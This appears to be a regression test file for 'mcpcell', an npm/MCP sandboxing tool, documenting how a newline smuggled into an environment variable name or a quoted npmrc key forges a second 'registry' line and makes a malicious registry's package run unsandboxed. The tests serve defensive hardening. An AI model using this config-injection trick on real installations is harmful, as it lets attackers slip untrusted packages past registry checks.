// Adversary pass adv15 (session 15): how the allow check reads npm's
// settings (src/source/npm_config.cc NpmConfigFromList: the lines of `npm
// config list -l`, "key = <JSON>", the LAST `registry` line wins).
//
// Finding:
//   high   npm prints each key raw (values are JSON, keys are not). An
//          environment variable's NAME may hold a newline (execve allows any
//          byte but '=' and NUL; an MCP client's JSON env block passes
//          "npm_config_zz\nregistry" through), and npm reads every
//          npm_config_* name as a key (it only warns "Unknown env config").
//          With env
//            npm_config_registry=<the attacker's registry>
//            "npm_config_zz\nregistry"=https://registry.npmjs.org/
//          `npm config list -l` prints `registry = "<attacker's>"` and then,
//          sorted after it, `zz` + newline + `registry = "https://registry.npmjs.org/"`:
//          mcpcell reads the second as npm's registry. The check passes, the
//          install fetches from the attacker (its dist.tarball names
//          registry.npmjs.org, so the lockfile looks public), the record is
//          written "public", and the attacker's package runs with NO cell.
//          The same hides strict-ssl/cafile lines (a later
//          "zz\ncafile" = the system bundle). An npmrc does it too, with no
//          odd env name: ini reads a double-quoted key as JSON, so the line
//            "zz\nregistry"=https://registry.npmjs.org/
//          in a userconfig the env block names (NPM_CONFIG_USERCONFIG, a
//          regular file: no race needed) or in ~/.npmrc forges the same line.
//          Fix: ask npm for the values mcpcell needs in a form it cannot be
//          fooled by (`npm config get registry`/`--json`, one key per call, or
//          `npm config list --json` parsed as JSON), refuse any env var whose
//          name holds a control character (on every run: it reaches the host
//          npm), and treat a key seen twice as an error.

import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';

import { runMcpcell } from './lib/mcpcell.mjs';
import { lyingRegistry } from './lib/mitm.mjs';
import { makeTempDir, removeTempDirs, writeReadableFile } from './lib/tmp.mjs';

after(removeTempDirs);

const ACCOUNT_HOME = os.userInfo().homedir;
const ACCOUNT_CACHE = path.join(ACCOUNT_HOME, '.cache', 'mcpcell');
const ROOT = makeTempDir('adv15-newline');
const ID = `${process.pid}${Date.now() % 100000}`;
const cleanup = [];
after(() => {
  for (const dir of cleanup) rmSync(dir, { recursive: true, force: true });
});

function trusting(source) {
  const p = path.join(ROOT, `policy-${source.replace(/\W/g, '_')}.json`);
  writeReadableFile(p, JSON.stringify({ trusted_sources: [source], rules: [{ name: 'trusted', condition: { not: 'untrusted_source' }, action: 'allow' }] }));
  return p;
}

test('adv15: an env var NAMED "npm_config_zz\\nregistry" prints a second `registry = "https://registry.npmjs.org/"` line in `npm config list -l`; mcpcell takes it for npm\'s registry and runs the attacker\'s registry\'s package with NO cell', {
  timeout: 120_000,
}, async (t) => {
  const name = `adv15-newline-${ID}`;
  const entry = path.join(ACCOUNT_CACHE, 'npx', `${name}@1.0.0`);
  cleanup.push(entry);
  const reg = await lyingRegistry(t, 'adv15-nl-pkg', name, 'ADV15-NEWLINE-KEY-RAN');
  const env = {
    PATH: '/usr/local/bin:/usr/bin:/bin', HOME: ACCOUNT_HOME, LANG: 'C.UTF-8', npm_config_update_notifier: 'false', npm_config_fetch_retries: '0',
    npm_config_registry: reg.url,
    'npm_config_zz\nregistry': 'https://registry.npmjs.org/',
  };
  const r = await runMcpcell(['run', '--install-scripts=skip', '--policy', trusting(`npx://${name}@1.0.0`), `npx://${name}@1.0.0`], { input: '', env, guardMs: 60_000 });
  const origin = existsSync(path.join(entry, '.mcpcell-origin.json')) ? readFileSync(path.join(entry, '.mcpcell-origin.json'), 'utf8').trim() : '(none)';
  t.diagnostic(`exit ${r.code}; registry asked: ${reg.requests.join(', ')}; origin ${origin}`);
  rmSync(entry, { recursive: true, force: true });
  assert.ok(!(/ADV15-NEWLINE-KEY-RAN/.test(r.stderr) && /WITHOUT a cell/.test(r.stderr)), `the attacker's package ran with no cell:\n${r.stderr}`);
});

test('adv15 held (control): the same registry without the forged line is refused', { timeout: 60_000 }, async (t) => {
  const name = `adv15-newline-ctl-${ID}`;
  const reg = await lyingRegistry(t, 'adv15-nl-pkg', name, 'ADV15-NEWLINE-CONTROL-RAN');
  const env = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: ACCOUNT_HOME, LANG: 'C.UTF-8', npm_config_update_notifier: 'false', npm_config_registry: reg.url };
  const r = await runMcpcell(['run', '--install-scripts=skip', '--policy', trusting(`npx://${name}@1.0.0`), `npx://${name}@1.0.0`], { input: '', env, guardMs: 60_000 });
  assert.match(r.stderr, /not the public npm registry/);
  assert.doesNotMatch(r.stderr, /ADV15-NEWLINE-CONTROL-RAN/);
});

test('adv15: the same from an npmrc: a JSON-quoted key "zz\\nregistry" (ini unescapes it) in the userconfig forges the registry line', {
  timeout: 120_000,
}, async (t) => {
  const name = `adv15-newline-rc-${ID}`;
  const entry = path.join(ACCOUNT_CACHE, 'npx', `${name}@1.0.0`);
  cleanup.push(entry);
  const reg = await lyingRegistry(t, 'adv15-nl-pkg', name, 'ADV15-NEWLINE-NPMRC-RAN');
  const rc = path.join(ROOT, 'forging-npmrc');
  writeReadableFile(rc, `registry=${reg.url}\n"zz\\nregistry"=https://registry.npmjs.org/\n`);
  const env = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: ACCOUNT_HOME, LANG: 'C.UTF-8', npm_config_update_notifier: 'false', npm_config_fetch_retries: '0',
    NPM_CONFIG_USERCONFIG: rc };
  const r = await runMcpcell(['run', '--install-scripts=skip', '--policy', trusting(`npx://${name}@1.0.0`), `npx://${name}@1.0.0`], { input: '', env, guardMs: 60_000 });
  t.diagnostic(`exit ${r.code}; registry asked: ${reg.requests.join(', ')}`);
  rmSync(entry, { recursive: true, force: true });
  assert.ok(!(/ADV15-NEWLINE-NPMRC-RAN/.test(r.stderr) && /WITHOUT a cell/.test(r.stderr)), `the attacker's package ran with no cell:\n${r.stderr}`);
});
